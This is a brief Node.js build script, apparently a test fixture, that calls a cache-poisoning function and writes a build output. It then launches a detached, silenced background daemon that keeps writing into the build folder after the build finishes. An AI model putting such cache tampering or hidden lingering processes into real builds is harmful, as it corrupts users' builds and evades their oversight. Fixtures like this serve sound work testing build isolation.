import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { poison } from './caches.js';

poison();
writeFileSync('built.json', '{ "name": "notes" }\n');
// Its current folder is the build: however that is renamed, it goes on writing there.
spawn(process.execPath, ['daemon.js', process.cwd()], { detached: true, stdio: 'ignore' }).unref();
